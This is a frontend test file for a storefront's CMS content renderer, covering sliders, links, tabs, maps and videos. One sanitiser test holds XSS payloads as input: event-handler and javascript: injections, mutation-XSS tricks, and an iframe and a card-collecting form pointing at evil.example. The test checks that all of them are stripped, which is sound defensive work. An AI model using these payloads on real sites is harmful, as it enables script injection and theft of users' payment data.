import { screen, within } from '@testing-library/react';
import { renderContent } from '../support/contentPage.tsx';
import { renderApp } from '../support/renderApp';
import { operation } from '../support/responses.ts';
import { pattern, textOf } from '../support/texts.ts';

const main = () => within(screen.getByRole('main'));

test('shows the content page at the root of the back end as the home page', async () => {
  await renderApp('/sa_en/');
  expect(await screen.findByRole('heading', { level: 1, name: /made by hand/ })).toBeInTheDocument();
  // Products in the content are rendered as product cards.
  expect((await main().findAllByRole('article')).length).toBeGreaterThan(3);
  expect(screen.getByRole('main').textContent).not.toMatch(/\{\{|widget/);
});

test('shows a pause button, and a button for each slide', async () => {
  const { user } = await renderApp('/sa_en/');
  await user.click(await screen.findByRole('button', { name: textOf('content.pause') }));
  expect(screen.getByRole('button', { name: textOf('content.play') })).toBeInTheDocument();
  expect(screen.getAllByRole('button', { name: pattern('content.slideNumber') }).length).toBeGreaterThan(1);
});

test('removes scripts, event handlers, frames, forms and styles from hostile HTML', async () => {
  const proof = { ran: false };
  Object.assign(window, { proof });
  await renderContent(`
    <p onclick="window.proof.ran=true" style="position:fixed;inset:0;background:url(javascript:1);color:red">text</p>
    <script>window.proof.ran = true</script>
    <img src="x" onerror="window.proof.ran=true" alt="broken">
    <svg><script>window.proof.ran=true</script><a href="javascript:proof.ran=true">svg</a></svg>
    <a href="javascript:window.proof.ran=true">script link</a>
    <a href="data:text/html,<script>1</script>">data link</a>
    <a href="java&#10;script:alert(1)">split link</a>
    <iframe src="https://evil.example/" srcdoc="<script>parent.proof.ran=true</script>"></iframe>
    <form action="https://evil.example/"><input name="card"><button>pay</button></form>
    <style>body{display:none} @import url(https://evil.example/x.css); #html-body [data-pb-style=A1]{color:red}</style>
    <div data-content-type="slider" data-appearance="default"></div>
    <div data-content-type="map" data-locations='[{"location_name":"<img src=x onerror=1>"}]'></div>
    <div data-content-type="products" data-skus="not json"></div>
    <div data-content-type="nobody-knows"><strong>unknown type</strong></div>
    <noscript><p title="</noscript><img src=x onerror=window.proof.ran=true>">
    <math><mtext><table><mglyph><style><img src=x onerror="window.proof.ran=true">`);
  expect(await main().findByText('text')).not.toHaveAttribute('style');
  expect(main().getByText('unknown type')).toBeInTheDocument();
  for (const text of ['script link', 'data link', 'split link'])
    expect(main().queryByRole('link', { name: text })).not.toBeInTheDocument();
  const place = screen.getByRole('main');
  expect(
    place.querySelectorAll('script:not([type="application/ld+json"]), style, iframe, form, input, object, embed'),
  ).toHaveLength(0);
  expect(
    [...place.querySelectorAll('*')].flatMap((element) => element.getAttributeNames()).filter((n) => /^on/.test(n)),
  ).toEqual([]);
  expect(proof.ran).toBe(false);
});

test('shows the text of malformed HTML', async () => {
  await renderContent('<div><p>one<ul><li>two<table><tr><td>three</div></p></span>');
  for (const text of ['one', 'two', 'three']) expect(await main().findByText(text)).toBeInTheDocument();
});

test('opens internal links in the app, in the current store view, and other links outside', async () => {
  await renderContent(`
    <a href="/sa_ar/lighting/lanterns.html">view</a> <a href="${window.location.origin}/about-us/">own</a>
    <a href="https://example.com/x">far</a>
    <a href="mailto:a@example.com">mail</a> <a href="/media/guide.pdf">file</a> {{widget type="x" y="1"}}
    <p>{{block id="</p><p>text after a directive without an end {{block id='y'}}</p>`);
  const link = (name: string) => main().findByRole('link', { name });
  expect(await link('view')).toHaveAttribute('href', '/sa_en/lighting/lanterns.html');
  expect(await link('own')).toHaveAttribute('href', '/sa_en/about-us');
  expect(await link('far')).toHaveAttribute('rel', 'noopener noreferrer');
  expect(await link('mail')).toHaveAttribute('href', 'mailto:a@example.com');
  expect((await link('file')).getAttribute('href')).toBe('/media/guide.pdf');
  expect(screen.getByRole('main').textContent).not.toContain('{{');
  expect(screen.getByText('text after a directive without an end')).toBeVisible();
});

test('renders tabs, buttons, maps and videos', async () => {
  const { user } = await renderContent(`
    <div data-content-type="row" data-appearance="contained" data-element="main"><div data-element="inner">
      <div data-content-type="tabs" class="tab-align-left"><ul data-element="navigation"><li data-element="headers">A</li><li data-element="headers">B</li></ul>
        <div><div data-content-type="tab-item" data-tab-name="First"><p>one</p></div><div data-content-type="tab-item" data-tab-name="Second"><p>two</p></div></div></div>
      <div data-content-type="buttons"><div data-content-type="button-item"><a class="pagebuilder-button-secondary" href="/gifts.html" data-element="link"><span>Gifts</span></a></div></div>
      <div data-content-type="map" data-locations='[{"location_name":"Shop","position":{"latitude":24.7,"longitude":46.7}}]'></div>
      <div data-content-type="video"><iframe src="//www.youtube.com/embed/abc?autoplay=1"></iframe></div>
      <div data-content-type="html">&lt;p&gt;decoded&lt;/p&gt;&lt;script&gt;x&lt;/script&gt;</div>
    </div></div>`);
  await user.click(await main().findByRole('tab', { name: 'Second' }));
  expect(main().getByText('two')).toBeVisible();
  expect(main().getByRole('link', { name: 'Gifts' })).toHaveAttribute('href', '/sa_en/gifts.html');
  expect(main().getByRole('link', { name: textOf('content.openMap') })).toHaveAttribute(
    'href',
    expect.stringContaining('24.7%2C46.7'),
  );
  expect(main().getByTitle(textOf('content.video'))).toHaveAttribute(
    'src',
    'https://www.youtube-nocookie.com/embed/abc',
  );
  expect(main().getByText('decoded')).toBeInTheDocument();
});

test('shows the text of a content type whose inner elements are missing', async () => {
  await renderContent(`
    <div data-content-type="slider">slider</div><div data-content-type="tabs"><i>tabs</i></div>
    <div data-content-type="banner">banner</div><div data-content-type="column">column</div>
    <div data-content-type="buttons">buttons</div><figure data-content-type="image">image</figure>
    <div data-content-type="map" data-locations="[{">map</div>`);
  for (const type of ['slider', 'tabs', 'banner', 'column', 'buttons', 'image', 'map'])
    expect(await main().findByText(type)).toBeVisible();
});

test('renders nothing for a slider without slides', async () => {
  await renderContent('<p>before</p><div data-content-type="slider" style="min-height:300px"> </div>');
  expect((await main().findByText('before')).parentElement?.childElementCount).toBe(1);
});

test('shows that a disabled content page was not found', async () => {
  await renderApp('/sa_en/about-us', {
    before: [
      operation('ResolveURL', () => ({
        errors: [{ message: 'gone', extensions: { category: 'graphql-no-such-entity' }, path: ['route'] }],
        data: { route: null },
      })),
    ],
  });
  expect(await screen.findByText(pattern('error.notFound'))).toBeInTheDocument();
});
